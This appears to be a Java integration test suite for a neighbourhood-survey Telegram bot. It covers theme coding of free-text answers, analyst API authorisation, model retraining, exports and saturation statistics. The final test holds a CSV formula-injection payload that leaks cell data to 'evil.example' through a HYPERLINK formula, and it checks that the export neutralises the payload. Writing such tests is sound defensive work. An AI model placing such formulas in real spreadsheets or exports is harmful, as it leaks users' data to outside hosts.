package be.buurtstem.bot.it;

import be.buurtstem.analysis.answers.Answer;
import be.buurtstem.bot.files.AnswerReader;
import be.buurtstem.bot.service.coding.CodingService;
import be.buurtstem.bot.service.privacy.RespondentIds;
import org.bson.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static com.mongodb.client.model.Filters.eq;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Theme coding in the service, the analyst API and learning from analysts: one service with the scripted
 * questionnaires, the analyst token set and the organiser token unset.
 */
class CodingServiceTest {
    static final Duration WAIT = Duration.ofSeconds(30);
    static final String ANALYST = "analyst-token-for-tests-0123456789";

    @TempDir
    static Path dataDir;
    static FakeTelegram telegram;
    static Harness service;
    static Api api;

    @BeforeAll
    static void start() {
        telegram = new FakeTelegram();
        Map<String, Object> p = Harness.properties(dataDir, telegram);
        p.put("buurtstem.analyst-token", ANALYST);
        p.put("buurtstem.coding.tick-interval", "100ms");
        p.put("buurtstem.coding.queue-capacity", "2");
        p.put("buurtstem.coding.folds", "2");
        p.put("buurtstem.coding.iterations", "20");
        p.put("buurtstem.coding.seed-languages", "nl");
        p.put("buurtstem.coding.retrain-after", "1000");
        p.put("buurtstem.saturation.rebuild-delay", "50ms");
        service = Harness.start(p);
        api = new Api(service);
        System.out.println("service with coding started in " + service.startMillis + " ms");
    }

    @AfterAll
    static void stop() {
        if (service != null) {
            service.close();
        }
        if (telegram != null) {
            telegram.close();
        }
    }

    static void awaitTexts(long chat, int count) {
        Harness.awaitTexts(telegram, chat, count, WAIT);
    }

    @Test
    void residentsFreeTextIsCodedWithoutTheReplyWaiting() throws Exception {
        long chat = 6001;
        Document wish;
        try (AutoCloseable held = service.context.getBean(CodingService.class).hold()) {
            telegram.text(chat, "/start", "nl");
            awaitTexts(chat, 1);
            telegram.press(chat, "q:buurt", "nl");
            awaitTexts(chat, 2);
            telegram.press(chat, "yes", "nl");
            awaitTexts(chat, 3);
            telegram.press(chat, "noord", "nl");
            awaitTexts(chat, 4);
            telegram.text(chat, "Het park is vuil en er ligt overal zwerfvuil.", "nl");
            awaitTexts(chat, 5);
            assertEquals("Bedankt voor je antwoorden!", telegram.textsTo(chat).get(4));
            String rid = service.context.getBean(RespondentIds.class).respondentId("telegram", String.valueOf(chat));
            wish = service.db().getCollection("answers").find(eq("respondent", rid)).into(new ArrayList<>()).stream()
                    .filter(a -> "wish".equals(a.getString("question"))).findFirst().orElseThrow();
            assertNull(wish.get("coding"), "the reply went out while coding was held: not coded yet");
        }
        long t0 = System.nanoTime();
        String id = wish.getString("_id");
        Harness.await("answer coded", WAIT, () -> Api.coded(service, id));
        System.out.printf("coded %.1f ms after the worker was released%n", (System.nanoTime() - t0) / 1e6);
        Document coded = Api.answer(service, id);
        Document coding = coded.get("coding", Document.class);
        assertEquals("combined", coding.getString("coder"), coding.toJson());
        assertEquals(0, coding.getInteger("model"));
        assertEquals("nl", coding.getString("language"));
        List<Document> codes = coded.getList("codes", Document.class);
        Set<String> themes = new HashSet<>();
        for (Document c : codes) {
            themes.add(c.getString("theme"));
            assertTrue(c.getDouble("confidence") > 0 && c.getDouble("confidence") <= 1, c.toJson());
            assertEquals("combined", c.getString("coder"));
            assertNotNull(c.getString("version"));
        }
        assertTrue(themes.containsAll(Set.of("green_space", "cleanliness")), themes.toString());
        // the choice answer is not coded
        Document area = service.db().getCollection("answers").find(eq("respondent", coded.getString("respondent")))
                .into(new ArrayList<>()).stream().filter(a -> "area".equals(a.getString("question"))).findFirst()
                .orElseThrow();
        assertNull(area.get("coding"));
    }

    @Test
    void aFullQueueLosesNothing() throws Exception {
        List<String> ids = new ArrayList<>();
        try (AutoCloseable held = service.context.getBean(CodingService.class).hold()) {
            for (int i = 0; i < 8; i++) { // the queue holds 2: the others wait in the database for the sweep
                ids.add(Api.simulate(service, "sim-queue-" + i, "queue", "Te veel lawaai 's nachts.", "noord",
                        Instant.now()));
            }
            assertTrue(ids.stream().noneMatch(id -> Api.coded(service, id)));
        }
        Harness.await("all coded after the overflow", WAIT, () -> ids.stream().allMatch(id -> Api.coded(service, id)));
        Harness.await("all counted once", WAIT, () -> api.get("/api/organiser/saturation/queue", ANALYST).json()
                .path("answers").asInt() == 8);
        Thread.sleep(300);
        assertEquals(8, api.get("/api/organiser/saturation/queue", ANALYST).json().path("answers").asInt());
    }

    @Test
    void apiRefusesWithoutTheRightTokenAndExplainsBadCalls() {
        Api.Reply none = api.get("/api/analyst/answers", null);
        assertEquals(403, none.status());
        assertTrue(none.json().path("error").asText().contains("Authorization: Bearer"), none.body());
        Api.Reply wrong = api.get("/api/analyst/answers", ANALYST + "x");
        assertEquals(403, wrong.status());
        assertTrue(wrong.body().contains("does not give access"), wrong.body());
        assertEquals(403, api.post("/api/analyst/retrain", "nope", "{}").status());
        for (String odd : List.of("/api//analyst/answers", "/api/./analyst/answers", "/api/x/../analyst/answers",
                "/api/analyst/answers;x=1", "/api;x=1/analyst/answers", "/api/analyst/%61nswers")) {
            int status = api.get(odd, null).status();
            assertTrue(status == 403 || status == 404 || status == 400, odd + " answered " + status);
        }
        // no organiser token configured: an organiser token is refused, the analyst token also grants organiser views
        assertEquals(403, api.get("/api/organiser/saturation", "some-organiser-token").status());
        assertEquals(200, api.get("/api/organiser/saturation", ANALYST).status());

        String id = Api.simulate(service, "sim-bad", "buurt", "Te veel verkeer in de straat.", "zuid", Instant.now());
        List<Api.Reply> bad = List.of(
                api.decide(ANALYST, id, "approve", "traffic_mobility"),
                api.decide(ANALYST, id, "add", "not a theme!"),
                api.decide(ANALYST, "no-such-answer", "add", "housing"),
                api.post("/api/analyst/answers/" + api.ref(id) + "/decisions", ANALYST, "{not json"),
                api.get("/api/analyst/answers?size=1000", ANALYST),
                api.get("/api/analyst/answers?page=x", ANALYST),
                api.get("/api/analyst/export?format=xml", ANALYST),
                api.get("/api/organiser/saturation/onbekend", ANALYST));
        List<Integer> statuses = bad.stream().map(Api.Reply::status).toList();
        assertEquals(List.of(400, 400, 404, 400, 400, 400, 400, 404), statuses, bad.toString());
        for (Api.Reply r : bad) {
            assertFalse(r.json().path("error").asText().isBlank(), r.body());
            assertFalse(r.body().contains("Exception") || r.body().contains("at be."), r.body());
        }
        Harness.await("coded", WAIT, () -> Api.coded(service, id));
        Api.Reply conflict = api.decide(ANALYST, id, "confirm", "housing");
        assertEquals(409, conflict.status(), conflict.body());
    }

    @Test
    void decisionsAreNeverOverwrittenAndRetrainingMakesANewVersionThatRecodes() {
        String[] texts = {
                "Het park is te klein voor de kinderen.", "Er ligt overal zwerfvuil op de stoep.",
                "Ik voel me 's avonds niet veilig, er wordt gedeald.", "De huur is veel te duur voor ons.",
                "Te veel verkeer en auto's die te snel rijden.", "Meer bomen en groen in de straat.",
                "Sluikstort aan de hoek, en ratten.", "Bang om alleen naar huis te gaan in het donker."};
        List<String> ids = new ArrayList<>();
        Instant t = Instant.now();
        for (int i = 0; i < texts.length; i++) {
            ids.add(Api.simulate(service, "sim-learn-" + i, "wonen", texts[i], i % 2 == 0 ? "noord" : "zuid",
                    t.plusMillis(i)));
        }
        Harness.await("all coded", WAIT, () -> ids.stream().allMatch(id -> Api.coded(service, id)));

        // analysts decide on six answers (six respondents); two are left to the machine
        assertEquals(201, api.decide(ANALYST, ids.get(0), "add", "children_school").status());
        assertEquals(201, api.decide(ANALYST, ids.get(1), "confirm", "cleanliness").status());
        assertEquals(201, api.decide(ANALYST, ids.get(2), "confirm", "safety").status());
        assertEquals(201, api.decide(ANALYST, ids.get(3), "add", "work_income").status());
        assertEquals(201, api.decide(ANALYST, ids.get(4), "add", "noise").status());
        Api.Reply removed = api.decide(ANALYST, ids.get(5), "remove", "green_space");
        assertEquals(201, removed.status(), removed.body());
        assertFalse(removed.body().contains("\"green_space\"]"), removed.body());
        List<Document> decisionsBefore = service.db().getCollection("codings").find(eq("questionnaire", "wonen"))
                .into(new ArrayList<>());
        assertEquals(6, decisionsBefore.size());
        assertTrue(decisionsBefore.stream().allMatch(d -> d.getString("respondent").startsWith("sim-learn-")));
        Document audit = service.db().getCollection("audit").find(eq("type", "analyst_decision")).first();
        assertFalse(audit.toJson().contains("sim-learn"), "no respondent id in the audit: " + audit.toJson());

        Api.Reply unconfirmed = api.get("/api/analyst/answers?questionnaire=wonen&unconfirmed=true", ANALYST);
        assertEquals(200, unconfirmed.status());
        assertEquals(2, unconfirmed.json().path("total").asInt(), unconfirmed.body());

        long t0 = System.nanoTime();
        Api.Reply retrain = api.post("/api/analyst/retrain", ANALYST, "");
        assertEquals(202, retrain.status(), retrain.body());
        Harness.await("model version 1", Duration.ofSeconds(300),
                () -> api.get("/api/analyst/models", ANALYST).json().path("models").size() == 1
                        && !api.get("/api/analyst/models", ANALYST).json().path("training").asBoolean());
        System.out.printf("retrained on 6 decisions + seeds in %.1f s%n", (System.nanoTime() - t0) / 1e9);
        JsonNode models = api.get("/api/analyst/models", ANALYST).json();
        assertNull(models.path("last_error").stringValue(null), models.toString());
        JsonNode v1 = models.path("models").get(0);
        assertEquals(1, v1.path("version").asInt(), v1.toString());
        assertTrue(v1.path("examples").asInt() > 6 && v1.path("synthetic").asInt() > 0, v1.toString());
        assertTrue(v1.path("cv").path("microF1").isNumber(), "cross-validated scores: " + v1);
        assertNotNull(v1.path("trainedAt").asString(null));
        assertTrue(Files.exists(dataDir.resolve("models/model-1.zip")));
        Api.Reply again = api.post("/api/analyst/retrain", ANALYST, "");
        assertEquals(409, again.status(), "nothing new since version 1: " + again.body());
        // trained on six decisions, version 1 may code worse than the keywords: the promotion rule then keeps it
        // aside (ModelPromotionTest); here the analyst puts it in use, which re-codes as a promotion by the rule does
        if (!"in_use".equals(v1.path("status").asString())) {
            assertEquals("not_promoted", v1.path("status").asString(), v1.toString());
            Api.Reply promoted = api.post("/api/analyst/models/1/promote", ANALYST, "");
            assertEquals(200, promoted.status(), promoted.body());
        }

        // the answers nobody decided on are re-coded by version 1; the decided ones keep codes and decisions
        Harness.await("re-coded", WAIT, () -> Api.answer(service, ids.get(6)).get("coding", Document.class)
                .getInteger("model") == 1 && Api.answer(service, ids.get(7)).get("coding", Document.class)
                .getInteger("model") == 1);
        for (int i = 0; i < 6; i++) {
            assertEquals(0, Api.answer(service, ids.get(i)).get("coding", Document.class).getInteger("model"));
        }
        assertEquals(decisionsBefore, service.db().getCollection("codings").find(eq("questionnaire", "wonen"))
                .into(new ArrayList<>()));
        JsonNode first = api.get("/api/analyst/answers/" + api.ref(ids.get(0)), ANALYST).json();
        assertTrue(first.path("themes").toString().contains("children_school"), first.toString());
        JsonNode sixth = api.get("/api/analyst/answers/" + api.ref(ids.get(5)), ANALYST).json();
        assertFalse(sixth.path("themes").toString().contains("green_space"), sixth.toString());

        // a new answer is coded by the new version
        String fresh = Api.simulate(service, "sim-learn-new", "wonen", "Het park is vuil.", "noord", Instant.now());
        Harness.await("new answer coded", WAIT, () -> Api.coded(service, fresh));
        assertEquals(1, Api.answer(service, fresh).get("coding", Document.class).getInteger("model"));
    }

    @Test
    void exportInBothFormats() throws Exception {
        String a = Api.simulate(service, "sim-export-1", "export", "Meer bankjes om elkaar te ontmoeten.", "noord",
                Instant.now());
        String b = Api.simulate(service, "sim-export-2", "export", "De bus komt nooit op tijd; \"echt\", nooit.",
                "zuid", Instant.now().plusMillis(1));
        Harness.await("coded", WAIT, () -> Api.coded(service, a) && Api.coded(service, b));
        assertEquals(201, api.decide(ANALYST, b, "add", "local_government").status());
        for (String format : List.of("jsonl", "csv")) {
            Api.Reply r = api.get("/api/analyst/export?questionnaire=export&format=" + format, ANALYST);
            assertEquals(200, r.status(), r.body());
            assertTrue(r.headers().firstValue("Content-Disposition").orElse("").contains("answers-export." + format));
            Path file = dataDir.resolve("check." + format);
            Files.writeString(file, r.body());
            List<Answer> records = new ArrayList<>();
            try (AnswerReader in = AnswerReader.open(file)) {
                in.forEach(records::add);
            }
            assertEquals(2, records.size(), r.body());
            Answer first = records.get(0);
            assertEquals(api.ref(a), first.id());
            assertEquals("sim-export-1", first.respondent(), "pseudonymous respondent id");
            assertEquals("Meer bankjes om elkaar te ontmoeten.", first.text());
            assertEquals("noord", first.segments().get("area"));
            assertTrue(first.themes().contains("meeting_places"), first.toString());
            Answer second = records.get(1);
            assertEquals("De bus komt nooit op tijd; \"echt\", nooit.", second.text());
            assertTrue(second.themes().containsAll(List.of("traffic_mobility", "local_government")),
                    second.themes().toString());
            assertEquals("true", second.segments().get("confirmed"));
        }
        // (DATA_DIR/tmp/xlsx, the XLSX row buffers' folder, is there from the start: no file may be in it either)
        assertTrue(!Files.exists(dataDir.resolve("tmp")) || Files.walk(dataDir.resolve("tmp"))
                .noneMatch(Files::isRegularFile), "no export left behind in the data folder");
    }

    @Test
    void saturationEndpointHasTheContractFields() {
        Instant t = Instant.now();
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < 4; i++) {
            ids.add(Api.simulate(service, "sim-sat-" + i, "buurt", i % 2 == 0 ? "Het park" : "Zwerfvuil",
                    i % 2 == 0 ? "noord" : "zuid", t.plusMillis(i)));
        }
        Harness.await("coded", WAIT, () -> ids.stream().allMatch(id -> Api.coded(service, id)));
        Api.Reply r = api.get("/api/organiser/saturation/buurt", ANALYST);
        assertEquals(200, r.status(), r.body());
        JsonNode j = r.json();
        for (String field : List.of("answers", "respondents", "themes_seen", "singletons", "doubletons", "chao1",
                "chao2", "coverage", "new_share_last_run", "status", "saturated", "saturated_at", "curve",
                "segments")) {
            assertTrue(j.has(field), field + " in " + r.body());
        }
        assertTrue(j.path("answers").asInt() >= 4, r.body());
        assertEquals("too_few", j.path("status").asString());
        assertTrue(j.path("segments").path("area").has("noord"), r.body());
        assertTrue(j.path("segments").has("language"), r.body());
        assertTrue(j.path("curve").isArray());
    }

    @Test
    void answerIdsShowNoRespondentAndStillFindTheAnswer() throws Exception {
        String stored = Api.simulate(service, "sim-opaque-7f3a", "opaque", "Meer licht in het park.", "noord",
                Instant.now());
        Harness.await("coded", WAIT, () -> Api.coded(service, stored));
        JsonNode listed = api.get("/api/analyst/answers?questionnaire=opaque", ANALYST).json().path("answers").get(0);
        String id = listed.path("id").asText();
        assertFalse(id.contains("sim-opaque") || id.contains("opaque:") || id.contains(":"), id);
        assertEquals(id, api.get("/api/analyst/answers?questionnaire=opaque", ANALYST).json().path("answers").get(0)
                .path("id").asText(), "the same answer keeps its id");
        Api.Reply one = api.get("/api/analyst/answers/" + id, ANALYST);
        assertEquals(200, one.status(), one.body());
        assertEquals("Meer licht in het park.", one.json().path("text").asText());
        Api.Reply decided = api.post("/api/analyst/answers/" + id + "/decisions", ANALYST,
                "{\"action\":\"add\",\"theme\":\"safety\"}");
        assertEquals(201, decided.status(), decided.body());
        assertEquals(id, decided.json().path("id").asText());
        // the stored id, and a reference with one character changed, are not ids of the API
        assertEquals(404, api.get("/api/analyst/answers/" + stored, ANALYST).status());
        // the first character, not the last: a base64 string's last character may carry only padding bits, which
        // decode to the same bytes (the test once passed such a changed reference and got 200)
        String changed = (id.charAt(0) == 'A' ? 'B' : 'A') + id.substring(1);
        assertEquals(404, api.get("/api/analyst/answers/" + changed, ANALYST).status());
        for (String format : List.of("jsonl", "csv")) {
            String body = api.get("/api/analyst/export?questionnaire=opaque&format=" + format, ANALYST).body();
            assertFalse(body.contains(stored), body);
            assertTrue(body.contains(id), body);
        }
    }

    @Test
    void pagingBeyondWhatAnIntHoldsIsABadRequestWithAReason() {
        for (String paging : List.of("page=2147483647&size=200", "page=10737419&size=200", "page=50001&size=200")) {
            Api.Reply r = api.get("/api/analyst/answers?" + paging, ANALYST);
            assertEquals(400, r.status(), paging + ": " + r.body());
            assertTrue(r.json().path("error").asText().contains("page × size"), r.body());
        }
        Api.Reply far = api.get("/api/analyst/answers?page=50000&size=200", ANALYST);
        assertEquals(200, far.status(), far.body());
        assertEquals(0, far.json().path("answers").size());
    }

    @Test
    void aFormulaAnswerIsExportedAsTextThatSpreadsheetsDoNotRun() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")";
        String id = Api.simulate(service, "sim-formula", "formula", formula, "-3", Instant.now());
        Harness.await("coded", WAIT, () -> Api.coded(service, id));
        Api.Reply r = api.get("/api/analyst/export?questionnaire=formula&format=csv", ANALYST);
        assertEquals(200, r.status(), r.body());
        String row = r.body().split("\r\n")[1];
        assertTrue(row.contains(",\"'=HYPERLINK("), row);
        assertTrue(row.contains(",-3,"), "a number stays a number: " + row);
        Path file = dataDir.resolve("formula.csv");
        Files.writeString(file, r.body());
        try (AnswerReader in = AnswerReader.open(file)) {
            Answer back = in.iterator().next();
            assertEquals(formula, back.text(), "our own reader takes the apostrophe off again");
            assertEquals("-3", back.segments().get("area"));
        }
    }
}
